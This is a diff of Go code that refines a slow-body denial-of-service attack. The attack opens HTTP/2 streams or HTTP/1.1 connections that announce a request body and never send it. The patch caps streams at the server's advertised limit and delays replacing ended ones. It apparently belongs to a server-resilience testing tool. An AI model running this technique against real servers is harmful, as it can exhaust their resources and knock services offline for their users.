@@ -54,7 +54,7 @@ func pause(ctx context.Context, d time.Duration) {
 // each, every one announcing contentLength bytes of body and sending none:
 // HTTP/2 streams when the server speaks HTTP/2, otherwise (the attack
 // adapted) conns*perConn HTTP/1.1 connections. A request the server
-// finishes (an answer, a reset) is replaced at once by a new one.
+// finishes (an answer, a reset) is replaced a redialPause later.
 type announcedBodies struct {
 	addr, method, path, contentType string
 	contentLength                   int64
@@ -64,7 +64,10 @@ type announcedBodies struct {
 	h2     bool
 	c      *tally
 	opened atomic.Int64 // requests opened so far
-	wg     sync.WaitGroup
+	// advertised is the server's last SETTINGS_MAX_CONCURRENT_STREAMS
+	// (0 until one is seen): the attack opens no more streams than that.
+	advertised atomic.Int64
+	wg         sync.WaitGroup
 }
 
 func (a *announcedBodies) describe() string {
@@ -77,7 +80,11 @@ func (a *announcedBodies) describe() string {
 func (a *announcedBodies) counts() *tally { return a.c }
 
 func (a *announcedBodies) inPlace() error {
-	if n, want := a.opened.Load(), int64(a.conns*a.perConn); n < want {
+	per := int64(a.perConn)
+	if v := a.advertised.Load(); a.h2 && v > 0 {
+		per = min(per, v)
+	}
+	if n, want := a.opened.Load(), int64(a.conns)*per; n < want {
 		return fmt.Errorf("%d of %d requests opened", n, want)
 	}
 	return nil
@@ -154,7 +161,7 @@ func (a *announcedBodies) h2Conn(ctx context.Context) error {
 	}
 	fr := http2.NewFramer(c, c)
 	fr.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
-	s := &h2Streams{fr: fr, slots: make(chan struct{}, a.perConn), open: map[uint32]bool{}, c: a.c, perConn: a.perConn}
+	s := &h2Streams{fr: fr, slots: make(chan struct{}, a.perConn), open: map[uint32]bool{}, c: a.c, perConn: a.perConn, advertised: &a.advertised}
 	if err := s.write(func() error { return fr.WriteSettings() }); err != nil {
 		return err
 	}
@@ -194,13 +201,14 @@ func (a *announcedBodies) h2Conn(ctx context.Context) error {
 // h2Streams is the state one HTTP/2 attack connection shares between its
 // writer (opening streams) and its reader (server frames).
 type h2Streams struct {
-	fr      *http2.Framer
-	wmu     sync.Mutex
-	mu      sync.Mutex
-	open    map[uint32]bool
-	slots   chan struct{} // one token per stream the writer may open
-	c       *tally
-	perConn int
+	fr         *http2.Framer
+	wmu        sync.Mutex
+	mu         sync.Mutex
+	open       map[uint32]bool
+	slots      chan struct{} // one token per stream the writer may open
+	c          *tally
+	perConn    int
+	advertised *atomic.Int64
 }
 
 func (s *h2Streams) write(f func() error) error {
@@ -209,14 +217,16 @@ func (s *h2Streams) write(f func() error) error {
 	return f()
 }
 
-// done frees a stream's slot the first time the server ends it.
+// done frees a stream's slot, a redialPause after the server first ends
+// it: the attack holds streams open; it is not a flood of requests.
 func (s *h2Streams) done(id uint32) {
 	s.mu.Lock()
 	open := s.open[id]
 	delete(s.open, id)
 	s.mu.Unlock()
 	if open {
-		s.slots <- struct{}{}
+		// Never blocks: there are never more tokens than slots.
+		time.AfterFunc(redialPause, func() { s.slots <- struct{}{} })
 	}
 }
 
@@ -242,6 +252,7 @@ func (s *h2Streams) read() error {
 			n := uint32(s.perConn)
 			if v, ok := f.Value(http2.SettingMaxConcurrentStreams); ok {
 				s.c.add("server MAX_CONCURRENT_STREAMS "+strconv.Itoa(int(v)), "")
+				s.advertised.Store(int64(v))
 				n = min(n, v)
 			}
 			for range n {
